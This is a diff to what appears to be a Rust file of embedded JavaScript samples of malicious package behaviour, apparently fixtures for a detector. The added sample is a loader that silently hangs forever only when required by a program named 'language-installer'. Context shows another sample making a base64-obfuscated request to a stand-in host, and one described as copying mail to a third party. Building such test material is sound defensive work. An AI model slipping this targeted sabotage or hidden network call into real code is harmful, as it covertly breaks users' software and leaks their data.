@@ -190,6 +190,20 @@ https.get(Buffer.from('aHR0cHM6Ly9nZW8tbG9va3VwLmludmFsaWQv', 'base64').toString
 });
 ";
 
+/// Spoils the work of one program that requires it, and of no other.
+pub(crate) const PARENT_ONLY: &str = r"'use strict';
+
+const path = require('path');
+
+module.exports = function load(name) {
+  const parent = module.parent && path.basename(path.dirname(module.parent.filename));
+  if (parent === 'language-installer') {
+    return new Promise(() => {});
+  }
+  return require(path.join(process.cwd(), 'node_modules', name));
+};
+";
+
 /// What the release before did, and a copy of every mail to somebody else.
 pub(crate) const MAIL_WITH_COPY: &str = r"'use strict';
 
